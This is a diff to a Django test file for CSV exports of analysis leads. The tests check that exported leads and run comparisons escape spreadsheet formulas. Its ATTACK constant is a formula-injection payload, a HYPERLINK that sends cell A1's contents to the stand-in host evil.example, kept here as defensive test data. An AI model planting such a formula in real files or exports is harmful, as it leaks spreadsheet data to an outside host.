@@ -13,7 +13,7 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from arusha_web.conftest import client_for
-from arusha_web.measure.models import AnalysisRun, Dataset, Lead, RunStatus
+from arusha_web.measure.models import AnalysisRun, Dataset, Lead, Publication, RunStatus
 
 # An office code as an uploaded export could carry it: opening the file must not follow the link.
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"PORT1")'
@@ -29,6 +29,7 @@ def runs(personas: dict[str, Any]) -> list[AnalysisRun]:
         run = AnalysisRun.objects.create(
             dataset=dataset, out_dir="/nonexistent", status=RunStatus.DONE, created_at=when, finished_at=when
         )
+        Publication.objects.create(run=run, published_at=when)
         Lead.objects.create(
             run=run, rank=1, entity_type="office", entity_id=ATTACK, office_code="PORT1", score=score,
             kind="benford", explanation="Declared amounts with an unusual pattern of leading digits",
@@ -39,7 +40,7 @@ def runs(personas: dict[str, Any]) -> list[AnalysisRun]:
 
 def test_the_leads_csv_escapes_the_formula(personas: dict[str, Any], runs: list[AnalysisRun]) -> None:
     response = client_for(personas["ana"]).get(reverse("measure:leads"), {"export": "1", "format": "csv"})
-    [row] = list(csv.reader(io.StringIO(response.content.decode())))[1:]
+    [row] = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
     assert "'" + ATTACK in row and ATTACK not in row
 
 
@@ -57,7 +58,7 @@ def test_the_comparison_csv_escapes_the_formula_and_keeps_numbers(
     before, after = runs
     params = {"a": str(before.pk), "b": str(after.pk), "format": "csv"}
     response = client_for(personas["ana"]).get(reverse("measure:compare"), params)
-    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
     [lead] = [r for r in rows if r["section"] == "lead_still"]
     assert lead["entity_id"] == "'" + ATTACK
     assert (lead["before"], lead["after"], lead["change"]) == ("3", "5", "2")
